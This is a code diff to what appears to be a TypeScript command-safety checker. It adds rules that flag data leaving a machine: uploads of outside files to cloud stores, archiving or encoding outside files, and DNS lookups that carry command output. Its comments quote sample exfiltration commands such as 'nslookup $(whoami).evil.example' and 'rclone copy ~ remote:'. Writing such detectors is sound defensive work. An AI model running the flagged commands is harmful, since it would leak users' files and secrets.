@@ -1,10 +1,13 @@
 /**
  * More ways bytes leave the machine: secret variables in what a sender transmits, object-store
- * and sync tools given a credential store, and tunnels that open this machine to another.
+ * and sync tools given a credential store or files from outside the workspace, archives and
+ * encodings of outside files, name lookups that carry command output, and tunnels.
  */
-import { resolvePath } from '../paths';
+import { canonicalPath, resolvePath } from '../paths';
+import { DYN, isDynamic } from '../words';
 import { isSecretPath } from './secrets';
 import type { CommandView, HitSink } from './types';
+import { splitOptions } from './types';
 
 /** Variables that by name hold a credential. */
 const SECRET_NAME = /TOKEN|SECRET|PASSW(?:OR)?D|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIAL/i;
@@ -62,9 +65,64 @@ export const OBJECT_STORES = new Set([
   'b2',
 ]);
 
+/** A file the sender reads from outside the workspace, temp folders included: a copy of a secret goes there first. */
+export function outsideFile(cmd: CommandView, file: string): boolean {
+  if (isDynamic(file)) return false;
+  const p = canonicalPath(resolvePath(cmd.cwd, file));
+  const ws = cmd.workspace ? canonicalPath(cmd.workspace) : null;
+  if (ws !== null && (p === ws || p.startsWith(`${ws.replace(/\/$/, '')}/`))) return false;
+  return p.startsWith('/') || p.startsWith('~') || p === '..' || p.startsWith('../');
+}
+
+/** A remote destination of a copy: `s3://…`, `gs://…`, rclone's `remote:path`. */
+const REMOTE_DEST =
+  /^(?:s3|gs|az|r2|b2|wasbs?|abfss?):\/\/|^https:\/\/[\w.-]+\.(?:blob\.core\.windows\.net)|^[\w-]+:(?!\/\/)/;
+const COPY_VERBS = new Set(['cp', 'copy', 'copyto', 'sync', 'move', 'moveto', 'mv', 'rsync', 'put']);
+
 export function storeUpload(cmd: CommandView, out: HitSink): void {
   const secret = cmd.args.find((a) => !a.startsWith('-') && isSecretPath(resolvePath(cmd.cwd, a)));
-  if (secret) out.hit('secret-exfiltration', `${cmd.name} copies ${secret}`);
+  if (secret) return out.hit('secret-exfiltration', `${cmd.name} copies ${secret}`);
+  // `rclone copy ~ remote:`, `aws s3 cp ~/notes s3://…`: the sources before a remote destination.
+  const ops = splitOptions(cmd.args).operands;
+  const verb = ops.findIndex((o) => COPY_VERBS.has(o));
+  const dest = ops[ops.length - 1] ?? '';
+  if (verb < 0 || ops.length - verb < 3 || !REMOTE_DEST.test(dest)) return;
+  const source = ops.slice(verb + 1, -1).find((s) => !REMOTE_DEST.test(s) && outsideFile(cmd, s));
+  if (source) out.hit('outside-upload', `${cmd.name} copies ${source}`);
+}
+
+/** Commands that put the files they name on stdout, whole, archived or encoded. */
+const FILE_READERS = new Set([
+  'cat',
+  'tar',
+  'bsdtar',
+  'zip',
+  'cpio',
+  'base64',
+  'base32',
+  'xxd',
+  'od',
+  'hexdump',
+  'gzip',
+  'bzip2',
+  'xz',
+  'zstd',
+]);
+
+/** `tar cz ~/.config`, `base64 ~/notes.txt`: a file from outside the workspace, on stdout. */
+export function outsideOutput(cmd: CommandView): string | null {
+  if (!FILE_READERS.has(cmd.name)) return null;
+  return splitOptions(cmd.args).operands.find((o) => o !== '-' && outsideFile(cmd, o)) ?? null;
+}
+
+/** A name with a label known only at run time under a fixed domain: `$(whoami).evil.example`. */
+const BUILT_NAME = new RegExp(`${DYN}[^\\s/]*\\.[A-Za-z0-9-]+\\.[A-Za-z]{2,}\\.?$`);
+
+/** `nslookup $(whoami).evil.example`: the lookup delivers the label to that domain's name server. */
+export function lookupChannel(cmd: CommandView, out: HitSink): void {
+  // A name has at most 253 characters: only its end is read.
+  const word = cmd.words.find((w) => !w.value.startsWith('-') && BUILT_NAME.test(w.value.slice(-260)));
+  if (word) out.hit('lookup-channel', `${cmd.name} ${word.raw}`);
 }
 
 /** Tunnel clients that publish a local port on another machine or the internet. */
